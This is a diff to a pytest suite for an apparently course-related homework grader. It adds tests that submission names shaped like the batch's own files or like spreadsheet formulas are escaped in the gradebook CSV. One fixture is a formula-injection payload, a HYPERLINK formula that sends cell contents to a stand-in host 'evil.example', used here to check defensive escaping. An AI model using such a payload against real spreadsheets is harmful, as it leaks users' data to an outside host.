@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import os
 import shutil
 import zipfile
 from pathlib import Path
@@ -10,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from corpus import MISTAKES, SOLUTION
+from grader.batch import results_folder
 from grader_test_support import run_grade
 
 pytestmark = pytest.mark.slow
@@ -50,7 +52,7 @@ def test_a_batch_grades_every_submission_into_a_complete_gradebook(tmp_path, sta
     assert list(rows["ada"]) == ["submission", *ITEMS, "total", "max", "status", "note"]
     for name, row in rows.items():
         assert all(row[item] != "" for item in ITEMS), (name, row)
-        assert (out / name / "results.json").is_file()
+        assert (results_folder(out, name) / "results.json").is_file()
     assert rows["ada"]["total"] == "130" and rows["bo"]["total"] == "0"
     assert rows["cy"]["2.1 q_sample"] == "0" and rows["cy"]["2.2 p_losses"] == "14" and rows["cy"]["total"] == "120"
     assert rows["dee"]["total"] == "0" and rows["eve"]["total"] == "0"
@@ -70,10 +72,43 @@ def test_redo_grades_again(tmp_path):
     submissions.mkdir()
     (submissions / "only.zip").write_bytes(b"not a zip")
     out = tmp_path / "out"
-    (out / "only").mkdir(parents=True)
-    (out / "only" / "results.json").write_text('{"score": 55, "tests": []}')
+    results_folder(out, "only").mkdir(parents=True)
+    (results_folder(out, "only") / "results.json").write_text('{"score": 55, "tests": []}')
     skipped = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
     assert "already graded" in skipped.stdout
     redone = run_grade("batch", str(submissions), "--out", str(out), "--redo", "--public-only")
     assert redone.returncode == 0, redone.stderr
     assert read_gradebook(out / "gradebook.csv")[0]["total"] == "0"
+
+
+def test_hand_ins_named_like_the_batchs_own_files_or_like_formulas_cannot_break_the_gradebook(tmp_path):
+    submissions = tmp_path / "submissions"
+    submissions.mkdir()
+    (submissions / "gradebook.csv.zip").write_bytes(b"not a zip")  # its results folder was OUT/gradebook.csv/
+    formula = '=HYPERLINK("evil.example?"&A1,"open")'
+    for name in (formula, "-2+3", os.fsdecode(b"caf\xe9")):
+        (submissions / name).mkdir()  # no diffusion_hw inside: rejected, quickly
+    out = tmp_path / "out"
+
+    run = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
+    assert run.returncode == 0, run.stderr
+    rows = {row["submission"]: row for row in read_gradebook(out / "gradebook.csv")}
+    assert set(rows) == {"gradebook.csv", "'" + formula, "'-2+3", "caf\ufffd"}
+    assert all(row["status"] == "rejected" and row["total"] == "0" for row in rows.values())
+    for name in ("gradebook.csv", formula, "-2+3", os.fsdecode(b"caf\xe9")):
+        assert (results_folder(out, name) / "results.json").is_file(), name
+    assert sorted(p.name for p in out.iterdir()) == ["gradebook.csv", "submissions"]  # no temporary file left
+
+    again = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
+    assert again.returncode == 0, again.stderr
+    assert again.stdout.count("already graded") == 4
+
+
+def test_gradebook_cells_are_text_a_spreadsheet_shows_as_text():
+    from grader.batch import spreadsheet_text
+
+    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
+    assert spreadsheet_text("+cmd") == "'+cmd" and spreadsheet_text("\tx") == "'\tx"
+    assert spreadsheet_text("-0") == "-0" and spreadsheet_text("130") == "130" and spreadsheet_text("-inf") == "'-inf"
+    assert spreadsheet_text("line one\r\n=line two") == "line one =line two"
+    assert spreadsheet_text("x\udcff" * 1000).count("\ufffd") <= 500
